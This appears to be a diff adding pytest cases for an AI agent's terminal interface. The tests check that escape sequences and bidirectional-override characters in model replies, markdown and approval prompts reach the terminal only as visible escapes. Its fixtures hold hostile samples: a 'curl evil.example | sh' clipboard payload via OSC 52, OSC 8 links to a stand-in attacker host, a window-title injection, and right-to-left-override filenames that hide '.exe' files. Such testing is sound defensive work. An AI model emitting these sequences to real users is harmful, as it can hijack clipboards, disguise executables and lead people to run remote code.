@@ -4,10 +4,13 @@ escapes, in the reply, the reasoning trace and the task list, never sent to the 
 
 from __future__ import annotations
 
+import io
+import os
 from pathlib import Path
 
 import pytest
 from baf_test_helpers import baf
+from rich.console import Console
 
 # The model plans a task whose description hides a bidirectional override, writes a trace line with a window
 # title sequence, then answers with OSC 52 (the clipboard: 'curl evil.example | sh') and an OSC 8 link.
@@ -50,3 +53,39 @@ def test_a_models_escape_sequences_are_shown_as_escapes(tmp_path: Path) -> None:
     assert "\\x1b]8;;http://evil.example" in out
     assert "\\u202egnp.exe" in out  # the task list
     assert "\\x1b]0;pwned\\x07planning" in out  # the trace
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Open invoice_&#x202E;fdp.exe now.", "invoice_\\u202efdp.exe"),  # a character reference, parsed
+        ("&rlm;&#x2066;left", "\\u200f\\u2066left"),
+        ("[the docs](https://evil.example/x)", "https://evil.example/x"),  # the address, not a hidden link
+    ],
+)
+def test_what_markdown_parsing_makes_of_a_reply_is_shown_as_escapes_too(written: str, shown: str) -> None:
+    from baf.platforms.terminal import _Markdown
+
+    out = io.StringIO()
+    Console(file=out, force_terminal=True, width=120, color_system=None).print(_Markdown(written))
+    printed = out.getvalue()
+    for active in ("\u202e", "\u200f", "\u2066", "\x1b]8;"):
+        assert active not in printed, f"{active!r} reached the terminal"
+    assert shown in printed
+
+
+async def test_the_approval_prompt_read_from_a_pipe_shows_the_tool_name_as_escapes() -> None:
+    """The tool's name comes from the log, which someone else may have written."""
+    from baf.platforms.terminal import TerminalPlatform, _raw_lines
+
+    read_end, write_end = os.pipe()
+    out = io.StringIO()
+    platform = TerminalPlatform(console=Console(file=out, force_terminal=False), input_fd=read_end)
+    platform._lines = _raw_lines(read_end)
+    os.write(write_end, b"y\n")
+    try:
+        assert await platform._read_line("approve \x1b]52;c;Y3VybA==\x07tool? ") == "y"
+    finally:
+        os.close(write_end)
+        os.close(read_end)
+    assert "\x1b" not in out.getvalue() and "\\x1b]52;c;Y3VybA==\\x07tool?" in out.getvalue()
